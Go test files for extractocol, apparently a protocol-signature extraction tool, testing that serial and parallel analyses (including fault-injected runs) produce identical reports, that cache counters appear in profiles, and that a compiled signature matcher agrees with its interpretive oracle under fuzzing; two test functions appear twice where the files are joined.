// TestBudgetedParallelDeterministic extends the determinism contract to
// degraded runs: with stateless fault rules armed at fixed probe sites,
// serial and parallel analyses must render byte-identical reports including
// the diagnostics section — which pins the (phase, site, detail) sort of
// Report.Diagnostics against worker-completion order. The rules deliberately
// use only phase+site addressing (no After/Once counters), because probe
// counting is scheduling-dependent under a parallel pool.
func TestBudgetedParallelDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	// Fresh injector per run: rule state (probe counts) is per-instance.
	faults := func() *budget.FaultInjector {
		return budget.NewFaultInjector(
			budget.Fault{Phase: budget.PhaseSlice, Site: "@1", Kind: budget.FaultPanic},
			budget.Fault{Phase: budget.PhaseSigbuild, Site: "@2", Kind: budget.FaultPanic},
			budget.Fault{Phase: budget.PhasePairing, Site: "@3", Kind: budget.FaultPanic},
		)
	}
	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			serialOpts := core.NewOptions()
			serialOpts.Workers = 1
			serialOpts.Faults = faults()
			serial, err := core.Analyze(app.Prog, serialOpts)
			if err != nil {
				t.Fatal(err)
			}
			parOpts := core.NewOptions()
			parOpts.Faults = faults()
			parallel, err := core.Analyze(app.Prog, parOpts)
			if err != nil {
				t.Fatal(err)
			}
			s, p := normalizeReport(report.Text(serial)), normalizeReport(report.Text(parallel))
			if s != p {
				t.Errorf("budgeted parallel report differs from serial\n--- serial ---\n%s\n--- parallel ---\n%s", s, p)
			}
		})
	}
}

// The analysis-cache hit/miss counters must surface in Report.Profile.
// Diode (the paper's Fig. 3 walkthrough app) exercises all three caches:
// its slices cross methods, fields and async callbacks.
func TestCacheCountersInProfile(t *testing.T) {
	app, err := corpus.ByName("Diode")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := core.Analyze(app.Prog, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	prof := rep.Profile
	// Misses are deterministic lower bounds (something was built); hits
	// prove reuse actually happened.
	for _, name := range []string{
		obs.CtrCacheReachableHits, obs.CtrCacheReachableMisses,
		obs.CtrCacheInferTypesHits, obs.CtrCacheInferTypesMisses,
		obs.CtrCacheSummaryHits, obs.CtrCacheSummaryMisses,
	} {
		if _, ok := prof.Counters[name]; !ok {
			t.Errorf("counter %s missing from profile", name)
		}
	}
	if prof.Counter(obs.CtrCacheInferTypesHits) == 0 {
		t.Error("type inference cache saw no reuse")
	}
	if prof.Counter(obs.CtrCacheReachableHits) == 0 {
		t.Error("reachability cache saw no reuse")
	}
	if prof.Counter(obs.CtrCacheSummaryHits) == 0 {
		t.Error("summary cache saw no reuse")
	}
	if prof.Counter(obs.CtrSliceJobs) == 0 {
		t.Error("slice pool recorded no jobs")
	}
	if w := prof.Gauges[obs.GaugeSliceWorkers]; w < 1 {
		t.Errorf("slice_workers gauge = %v, want >= 1", w)
	}
	if u := prof.Gauges[obs.GaugeSliceUtilization]; u < 0 || u > 1.05 {
		t.Errorf("slice_worker_utilization = %v, want within [0, 1.05]", u)
	}
}

// TestForwardFactsSeedOrderDeterministic pins the seeding contract behind
// the pairing flow checks: ForwardFacts takes its seeds as a Go map, and
// every observable — the reached statement set and, in particular, where a
// truncating fixpoint budget cuts propagation off — must be independent of
// map iteration order. The tight budget is what makes ordering visible: a
// worklist seeded in map order would truncate at a different frontier from
// run to run, while the sorted seed walk always truncates at the same one.
func TestForwardFactsSeedOrderDeterministic(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	model := semmodel.Default()
	cg := callgraph.Build(app.Prog, model)

	// Seed one local fact per app method (first statement, register 0) so
	// the worklist starts wide: with many seeds, truncation order is the
	// first thing an unsorted walk would get wrong.
	seeds := map[taint.StmtID]int{}
	for _, cls := range app.Prog.AppClasses() {
		for _, m := range cls.Methods {
			if len(m.Instrs) > 0 {
				seeds[taint.StmtID{Method: m.Ref(), Index: 0}] = 0
			}
		}
	}
	if len(seeds) < 8 {
		t.Fatalf("only %d seed methods, want a wide seed set", len(seeds))
	}

	project := func(legacy bool, iters int64) string {
		eng := taint.NewEngine(app.Prog, model, cg)
		eng.Legacy = legacy
		eng.Budget = budget.New(budget.Limits{FixpointIters: iters})
		res := eng.ForwardFacts(seeds)
		if iters > 0 && res.Truncated == nil {
			t.Fatalf("FixpointIters=%d did not truncate; ordering is not observable", iters)
		}
		var sb strings.Builder
		res.EachStmt(func(m *ir.Method, idx int) bool {
			fmt.Fprintf(&sb, "%s#%d\n", m.Ref(), idx)
			return true
		})
		return sb.String()
	}

	for _, legacy := range []bool{false, true} {
		want := project(legacy, 40)
		for run := 1; run < 8; run++ {
			if got := project(legacy, 40); got != want {
				t.Fatalf("legacy=%v: truncated result diverged on run %d\n--- first ---\n%s\n--- run %d ---\n%s",
					legacy, run, want, run, got)
			}
		}
		// Unbudgeted fixpoints must agree too (and with each other across
		// runs, which the pinned-report suite already covers corpus-wide).
		full := project(legacy, 0)
		if full == "" {
			t.Fatalf("legacy=%v: empty unbudgeted result", legacy)
		}
	}
}

// Parallel-vs-serial determinism: core.Analyze fans transaction extraction
// and signature building across worker pools, and this test pins the
// contract that parallelism is invisible in the output — for every corpus
// app, the serial (Workers=1) and parallel text reports are byte-identical
// once wall-clock lines are removed. ci.sh runs this under -race, which
// also exercises the shared analysis caches for data races.
package extractocol

import (
	"strings"
	"testing"

	"extractocol/internal/budget"
	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/obs"
	"extractocol/internal/report"
)

// normalizeReport strips the only time-dependent lines of a text report
// (total analysis time and the per-phase breakdown).
func normalizeReport(s string) string {
	var out []string
	for _, line := range strings.Split(s, "\n") {
		if strings.Contains(line, "analysis time:") || strings.HasPrefix(line, "  phases:") {
			continue
		}
		out = append(out, line)
	}
	return strings.Join(out, "\n")
}

func TestParallelAnalyzeDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			serialOpts := core.NewOptions()
			serialOpts.Workers = 1
			serial, err := core.Analyze(app.Prog, serialOpts)
			if err != nil {
				t.Fatal(err)
			}
			parallel, err := core.Analyze(app.Prog, core.NewOptions())
			if err != nil {
				t.Fatal(err)
			}
			s, p := normalizeReport(report.Text(serial)), normalizeReport(report.Text(parallel))
			if s != p {
				t.Errorf("parallel report differs from serial\n--- serial ---\n%s\n--- parallel ---\n%s", s, p)
			}
		})
	}
}

// TestBudgetedParallelDeterministic extends the determinism contract to
// degraded runs: with stateless fault rules armed at fixed probe sites,
// serial and parallel analyses must render byte-identical reports including
// the diagnostics section — which pins the (phase, site, detail) sort of
// Report.Diagnostics against worker-completion order. The rules deliberately
// use only phase+site addressing (no After/Once counters), because probe
// counting is scheduling-dependent under a parallel pool.
func TestBudgetedParallelDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	// Fresh injector per run: rule state (probe counts) is per-instance.
	faults := func() *budget.FaultInjector {
		return budget.NewFaultInjector(
			budget.Fault{Phase: budget.PhaseSlice, Site: "@1", Kind: budget.FaultPanic},
			budget.Fault{Phase: budget.PhaseSigbuild, Site: "@2", Kind: budget.FaultPanic},
			budget.Fault{Phase: budget.PhasePairing, Site: "@3", Kind: budget.FaultPanic},
		)
	}
	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			serialOpts := core.NewOptions()
			serialOpts.Workers = 1
			serialOpts.Faults = faults()
			serial, err := core.Analyze(app.Prog, serialOpts)
			if err != nil {
				t.Fatal(err)
			}
			parOpts := core.NewOptions()
			parOpts.Faults = faults()
			parallel, err := core.Analyze(app.Prog, parOpts)
			if err != nil {
				t.Fatal(err)
			}
			s, p := normalizeReport(report.Text(serial)), normalizeReport(report.Text(parallel))
			if s != p {
				t.Errorf("budgeted parallel report differs from serial\n--- serial ---\n%s\n--- parallel ---\n%s", s, p)
			}
		})
	}
}

// The analysis-cache hit/miss counters must surface in Report.Profile.
// Diode (the paper's Fig. 3 walkthrough app) exercises all three caches:
// its slices cross methods, fields and async callbacks.
func TestCacheCountersInProfile(t *testing.T) {
	app, err := corpus.ByName("Diode")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := core.Analyze(app.Prog, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	prof := rep.Profile
	// Misses are deterministic lower bounds (something was built); hits
	// prove reuse actually happened.
	for _, name := range []string{
		obs.CtrCacheReachableHits, obs.CtrCacheReachableMisses,
		obs.CtrCacheInferTypesHits, obs.CtrCacheInferTypesMisses,
		obs.CtrCacheSummaryHits, obs.CtrCacheSummaryMisses,
	} {
		if _, ok := prof.Counters[name]; !ok {
			t.Errorf("counter %s missing from profile", name)
		}
	}
	if prof.Counter(obs.CtrCacheInferTypesHits) == 0 {
		t.Error("type inference cache saw no reuse")
	}
	if prof.Counter(obs.CtrCacheReachableHits) == 0 {
		t.Error("reachability cache saw no reuse")
	}
	if prof.Counter(obs.CtrCacheSummaryHits) == 0 {
		t.Error("summary cache saw no reuse")
	}
	if prof.Counter(obs.CtrSliceJobs) == 0 {
		t.Error("slice pool recorded no jobs")
	}
	if w := prof.Gauges[obs.GaugeSliceWorkers]; w < 1 {
		t.Errorf("slice_workers gauge = %v, want >= 1", w)
	}
	if u := prof.Gauges[obs.GaugeSliceUtilization]; u < 0 || u > 1.05 {
		t.Errorf("slice_worker_utilization = %v, want within [0, 1.05]", u)
	}
}

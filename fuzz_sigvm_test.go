// FuzzSigVM is the equivalence fuzz gate between the compiled matcher
// (internal/sigvm) and the interpretive oracle (siglang.MatchText /
// MatchQuery / MatchJSON / MatchXML): any signature the parser accepts,
// compiled and run against any payload, must produce the oracle's exact
// verdict and ByteStats in every matching mode — and neither side may
// panic. The signature corpus is seeded from the parser's canonical test
// corpus (siglang/parse_test.go's corpusSigs renderings) plus shapes that
// stress each engine: repetition epsilon cycles for the Pike VM, dynamic
// keys and array confluence-merges for the JSON walker, wildcard roots
// for XML.
package extractocol

import (
	"encoding/json"
	"testing"

	"extractocol/internal/siglang"
	"extractocol/internal/sigvm"
)

func FuzzSigVM(f *testing.F) {
	sigSeeds := []string{
		// From siglang/parse_test.go's corpus (canonical renderings).
		`""`,
		`"he said \"hi\" ∨ left"`,
		`num(42)`,
		`num(-3.5e2)`,
		`?any`, `?string`, `?int`, `?bool`,
		`concat("https://api.example.com/v", ?int, "/items?count=", ?int)`,
		`rep{concat("&tag=", ?string)}`,
		`("a")`,
		`("GET" ∨ "POST" ∨ ?string)`,
		`obj{"user": ?string, "ids": array[?int...], ?key: num(1), "hole": ?any}`,
		`array["x", obj{"k": ?any}]`,
		`json(obj{"data": json(?any)})`,
		`xml(<rss version="2.0" lang=?any><channel><item>?string</item></channel>concat("tail:", ?int)</rss>)`,
		// Engine-stressing shapes.
		`rep{""}`,
		`rep{rep{?string}}`,
		`(num(1) ∨ num(2) ∨ ?bool)`,
		`concat("a", rep{("b" ∨ ?int)}, "c")`,
		`obj{}`,
		`array[]`,
		`array[obj{"a": ?int}, obj{"b": ?string}]`,
	}
	payloadSeeds := []string{
		"",
		"https://api.example.com/v2/items?count=17",
		"a=1&b=2&noequals",
		`{"user":"bob","ids":[1,2],"k":true,"extra":null}`,
		`[{"a":1},{"b":"x"}]`,
		`<rss version="2.0"><channel><item>hi</item></channel></rss>`,
		"line1\nline2",
		"abbbc", "a12c", "ac",
		`{"truncated":`,
		"tr\xffue",
	}
	for i, s := range sigSeeds {
		f.Add(s, payloadSeeds[i%len(payloadSeeds)])
	}
	for _, p := range payloadSeeds {
		f.Add(`concat("v", ?int)`, p)
	}

	f.Fuzz(func(t *testing.T, sigSrc, payload string) {
		// JSONSize computes marshalled lengths without marshalling; hold it
		// to the real encoder on every decodable payload.
		if v, err := siglang.DecodeJSONPayload([]byte(payload)); err == nil {
			if enc, merr := json.Marshal(v); merr == nil {
				if got := siglang.JSONSize(v); got != len(enc) {
					t.Fatalf("JSONSize(%q) = %d, encoder produced %d bytes: %s",
						payload, got, len(enc), enc)
				}
			}
		}

		sig, err := siglang.Parse(sigSrc)
		if err != nil {
			t.Skip()
		}
		// Compile from the pristine tree, before the interpretive matchers
		// get a chance to confluence-merge arrays in place; the compiled
		// programs must agree with the oracle both before and after that
		// first-match mutation (round 2).
		single := sigvm.CompileSingle(sig)
		for round := 0; round < 2; round++ {
			wantOK, wantSt := siglang.MatchText(sig, payload)
			gotOK, gotSt := single.MatchText(payload)
			if wantOK != gotOK || wantSt != gotSt {
				t.Fatalf("round %d MatchText(%s, %q): interp (%v, %+v), vm (%v, %+v)",
					round, sigSrc, payload, wantOK, wantSt, gotOK, gotSt)
			}

			wantOK, wantSt = siglang.MatchQuery(sig, payload)
			gotOK, gotSt = single.MatchQuery(payload)
			if wantOK != gotOK || wantSt != gotSt {
				t.Fatalf("round %d MatchQuery(%s, %q): interp (%v, %+v), vm (%v, %+v)",
					round, sigSrc, payload, wantOK, wantSt, gotOK, gotSt)
			}

			wantOK, wantSt, wantErr := siglang.MatchJSON(sig, []byte(payload))
			gotOK, gotSt, gotErr := single.MatchJSON([]byte(payload))
			if wantOK != gotOK || wantSt != gotSt || (wantErr == nil) != (gotErr == nil) {
				t.Fatalf("round %d MatchJSON(%s, %q): interp (%v, %+v, %v), vm (%v, %+v, %v)",
					round, sigSrc, payload, wantOK, wantSt, wantErr, gotOK, gotSt, gotErr)
			}

			if x, isXML := sig.(*siglang.XML); isXML {
				wantOK, wantSt, wantErr := siglang.MatchXML(x, []byte(payload))
				gotOK, gotSt, gotErr := single.MatchXML([]byte(payload))
				if wantOK != gotOK || wantSt != gotSt || (wantErr == nil) != (gotErr == nil) {
					t.Fatalf("round %d MatchXML(%s, %q): interp (%v, %+v, %v), vm (%v, %+v, %v)",
						round, sigSrc, payload, wantOK, wantSt, wantErr, gotOK, gotSt, gotErr)
				}
			}
		}
	})
}
